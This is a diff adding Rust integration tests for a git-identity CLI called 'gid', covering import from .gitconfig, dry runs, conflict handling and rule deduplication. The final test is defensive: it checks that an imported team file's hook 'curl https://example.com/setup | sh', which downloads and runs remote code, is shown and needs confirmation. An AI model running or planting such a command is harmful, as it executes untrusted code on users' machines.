@@ -0,0 +1,363 @@
+use assert_cmd::Command;
+use std::fs;
+use tempfile::TempDir;
+
+#[test]
+fn test_scenario_import_from_gitconfig() {
+    // Scenario: Migrate a hand-rolled includeIf setup into gid identities and rules
+    let home_dir = TempDir::new().unwrap();
+    let home = home_dir.path();
+    fs::write(
+        home.join(".gitconfig"),
+        r#"[user]
+	name = Jane Doe
+	email = jane@example.com
+[includeIf "gitdir:~/work/"]
+	path = ~/.gitconfig-work
+"#,
+    )
+    .unwrap();
+    fs::write(
+        home.join(".gitconfig-work"),
+        r#"[user]
+	name = Jane Doe
+	email = jane@company.com
+	signingkey = ABCD1234EF567890
+[commit]
+	gpgsign = true
+"#,
+    )
+    .unwrap();
+
+    let config_dir = home.join(".config/gid");
+
+    Command::cargo_bin("gid")
+        .unwrap()
+        .env("GID_CONFIG_DIR", config_dir.to_str().unwrap())
+        .env("HOME", home)
+        .env("XDG_CONFIG_HOME", home.join(".config"))
+        .args(["import", "--from-gitconfig", "--yes"])
+        .assert()
+        .success();
+
+    let config: toml::Table = fs::read_to_string(config_dir.join("config.toml"))
+        .unwrap()
+        .parse()
+        .unwrap();
+    let identities = config["identities"].as_array().unwrap();
+    assert_eq!(identities.len(), 2);
+
+    let work = identities
+        .iter()
+        .find(|i| i["email"].as_str() == Some("jane@company.com"))
+        .unwrap();
+    assert_eq!(work["id"].as_str(), Some("work"));
+    assert_eq!(work["gpg_key"].as_str(), Some("ABCD1234EF567890"));
+    assert_eq!(work["gpg_sign"].as_bool(), Some(true));
+
+    let rules = config["rules"].as_array().unwrap();
+    assert_eq!(rules.len(), 1);
+    assert_eq!(rules[0]["pattern"].as_str(), Some("~/work/**"));
+    assert_eq!(rules[0]["identity"].as_str(), Some("work"));
+
+    // A second run finds nothing new
+    let output = Command::cargo_bin("gid")
+        .unwrap()
+        .env("GID_CONFIG_DIR", config_dir.to_str().unwrap())
+        .env("HOME", home)
+        .env("XDG_CONFIG_HOME", home.join(".config"))
+        .args(["import", "--from-gitconfig", "--yes"])
+        .output()
+        .unwrap();
+    assert!(output.status.success());
+    assert!(String::from_utf8_lossy(&output.stdout).contains("No new identities"));
+}
+
+#[test]
+fn test_scenario_import_dry_run() {
+    // Scenario: Preview a team config update before touching the local config
+    let home_dir = TempDir::new().unwrap();
+    let config_dir = home_dir.path().join(".config/gid");
+    fs::create_dir_all(&config_dir).unwrap();
+    let current = r#"
+[[identities]]
+id = "work"
+name = "Work User"
+email = "me@company.com"
+
+[[identities]]
+id = "personal"
+name = "Me"
+email = "me@example.com"
+
+[[rules]]
+type = "path"
+pattern = "~/work/**"
+identity = "work"
+"#;
+    fs::write(config_dir.join("config.toml"), current).unwrap();
+
+    let file = home_dir.path().join("team.toml");
+    fs::write(
+        &file,
+        r#"
+[[identities]]
+id = "work"
+name = "Work User"
+email = "me@new-company.com"
+
+[[identities]]
+id = "work-ci"
+name = "Company CI"
+email = "ci@company.com"
+
+[[rules]]
+type = "path"
+pattern = "~/work/**"
+identity = "work"
+
+[[rules]]
+type = "remote"
+pattern = "github.com/company/*"
+identity = "work"
+"#,
+    )
+    .unwrap();
+
+    let output = Command::cargo_bin("gid")
+        .unwrap()
+        .env("GID_CONFIG_DIR", config_dir.to_str().unwrap())
+        .env("NO_COLOR", "1")
+        .arg("import")
+        .arg(&file)
+        .arg("--dry-run")
+        .output()
+        .unwrap();
+    assert!(output.status.success());
+
+    let stdout = String::from_utf8_lossy(&output.stdout);
+    assert!(stdout.contains("~ [work] Work User <me@new-company.com> (differs in email"));
+    assert!(stdout.contains("+ [work-ci] Company CI <ci@company.com>"));
+    assert!(stdout.contains("- [personal] Me <me@example.com> (removed on replace)"));
+    assert!(stdout.contains("(already exists, skipped)"));
+    assert!(stdout.contains("+ [remote] github.com/company/* -> work"));
+    assert!(stdout.contains("Dry run: no changes written"));
+
+    assert_eq!(
+        fs::read_to_string(config_dir.join("config.toml")).unwrap(),
+        current
+    );
+}
+
+#[test]
+fn test_scenario_import_on_conflict() {
+    // Scenario: A team config update changes an identity that already exists locally
+    let home_dir = TempDir::new().unwrap();
+    let config_dir = home_dir.path().join(".config/gid");
+    fs::create_dir_all(&config_dir).unwrap();
+    let current = r#"
+[[identities]]
+id = "work"
+name = "Work User"
+email = "me@company.com"
+"#;
+
+    let file = home_dir.path().join("team.toml");
+    fs::write(
+        &file,
+        r#"
+[[identities]]
+id = "work"
+name = "Work User"
+email = "me@new-company.com"
+
+[[rules]]
+type = "path"
+pattern = "~/work/**"
+identity = "work"
+"#,
+    )
+    .unwrap();
+
+    let import = |strategy: &str| {
+        fs::write(config_dir.join("config.toml"), current).unwrap();
+        let output = Command::cargo_bin("gid")
+            .unwrap()
+            .env("GID_CONFIG_DIR", config_dir.to_str().unwrap())
+            .env("NO_COLOR", "1")
+            .arg("import")
+            .arg(&file)
+            .args(["--on-conflict", strategy])
+            .output()
+            .unwrap();
+        assert!(output.status.success());
+        let config: toml::Table = fs::read_to_string(config_dir.join("config.toml"))
+            .unwrap()
+            .parse()
+            .unwrap();
+        (String::from_utf8_lossy(&output.stdout).to_string(), config)
+    };
+
+    let (stdout, config) = import("overwrite");
+    assert!(stdout.contains("~ [work] overwritten (email)"));
+    let identities = config["identities"].as_array().unwrap();
+    assert_eq!(identities.len(), 1);
+    assert_eq!(identities[0]["email"].as_str(), Some("me@new-company.com"));
+
+    let (stdout, config) = import("rename");
+    assert!(stdout.contains("~ [work] imported as [work-imported] (email)"));
+    let identities = config["identities"].as_array().unwrap();
+    assert_eq!(identities.len(), 2);
+    assert_eq!(identities[0]["email"].as_str(), Some("me@company.com"));
+    assert_eq!(identities[1]["id"].as_str(), Some("work-imported"));
+    assert_eq!(
+        config["rules"][0]["identity"].as_str(),
+        Some("work-imported")
+    );
+
+    let (stdout, config) = import("skip");
+    assert!(stdout.contains("~ [work] skipped, differs in email"));
+    assert_eq!(
+        config["identities"][0]["email"].as_str(),
+        Some("me@company.com")
+    );
+}
+
+#[test]
+fn test_scenario_import_rule_dedup() {
+    // Scenario: Importing the same team file repeatedly must not multiply rules
+    let home_dir = TempDir::new().unwrap();
+    let config_dir = home_dir.path().join(".config/gid");
+    fs::create_dir_all(&config_dir).unwrap();
+    fs::write(
+        config_dir.join("config.toml"),
+        r#"
+[[identities]]
+id = "work"
+name = "Work User"
+email = "me@company.com"
+
+[[rules]]
+type = "remote"
+pattern = "github.com/acme/*"
+identity = "work"
+"#,
+    )
+    .unwrap();
+
+    let file = home_dir.path().join("team.toml");
+    fs::write(
+        &file,
+        r#"
+[[rules]]
+type = "path"
+pattern = "~/work/**"
+identity = "work"
+
+[[rules]]
+type = "path"
+pattern = "~/work/**"
+identity = "work"
+
+[[rules]]
+type = "remote"
+pattern = "github.com/acme/*"
+identity = "acme"
+"#,
+    )
+    .unwrap();
+
+    for _ in 0..2 {
+        let output = Command::cargo_bin("gid")
+            .unwrap()
+            .env("GID_CONFIG_DIR", config_dir.to_str().unwrap())
+            .env("NO_COLOR", "1")
+            .arg("import")
+            .arg(&file)
+            .args(["--on-conflict", "skip"])
+            .output()
+            .unwrap();
+        assert!(output.status.success());
+        let stdout = String::from_utf8_lossy(&output.stdout);
+        assert!(stdout.contains(
+            "~ [remote] github.com/acme/* -> acme skipped, pattern maps to [work] locally"
+        ));
+    }
+
+    let config: toml::Table = fs::read_to_string(config_dir.join("config.toml"))
+        .unwrap()
+        .parse()
+        .unwrap();
+    let rules = config["rules"].as_array().unwrap();
+    assert_eq!(rules.len(), 2);
+    assert!(rules.iter().all(|r| r["identity"].as_str() == Some("work")));
+}
+
+#[test]
+fn test_scenario_import_post_switch_command_needs_confirmation() {
+    // Scenario: A shared file must not plant a command that runs on every switch unnoticed
+    let home_dir = TempDir::new().unwrap();
+    let config_dir = home_dir.path().join(".config/gid");
+    fs::create_dir_all(&config_dir).unwrap();
+    let current = r#"
+[[identities]]
+id = "personal"
+name = "Me"
+email = "me@example.com"
+"#;
+    fs::write(config_dir.join("config.toml"), current).unwrap();
+
+    let file = home_dir.path().join("team.toml");
+    fs::write(
+        &file,
+        r#"
+[[identities]]
+id = "work"
+name = "Work User"
+email = "me@company.com"
+post_switch_command = "curl https://example.com/setup | sh"
+"#,
+    )
+    .unwrap();
+
+    let gid = || {
+        let mut command = Command::cargo_bin("gid").unwrap();
+        command
+            .env("GID_CONFIG_DIR", config_dir.to_str().unwrap())
+            .env("NO_COLOR", "1")
+            .arg("import")
+            .arg(&file);
+        command
+    };
+
+    let output = gid().arg("--dry-run").output().unwrap();
+    assert!(output.status.success());
+    let stdout = String::from_utf8_lossy(&output.stdout);
+    assert!(stdout.contains("Commands run after switching to these identities:"));
+    assert!(stdout.contains("[work] curl https://example.com/setup | sh"));
+
+    // Without a terminal to confirm on, nothing is stored
+    let output = gid().args(["--on-conflict", "skip"]).output().unwrap();
+    assert!(!output.status.success());
+    assert!(String::from_utf8_lossy(&output.stderr).contains("pass --yes to import"));
+    assert_eq!(
+        fs::read_to_string(config_dir.join("config.toml")).unwrap(),
+        current
+    );
+
+    let output = gid()
+        .args(["--on-conflict", "skip", "--yes"])
+        .output()
+        .unwrap();
+    assert!(output.status.success());
+    assert!(String::from_utf8_lossy(&output.stdout)
+        .contains("[work] curl https://example.com/setup | sh"));
+    let config: toml::Table = fs::read_to_string(config_dir.join("config.toml"))
+        .unwrap()
+        .parse()
+        .unwrap();
+    assert_eq!(
+        config["identities"][1]["post_switch_command"].as_str(),
+        Some("curl https://example.com/setup | sh")
+    );
+}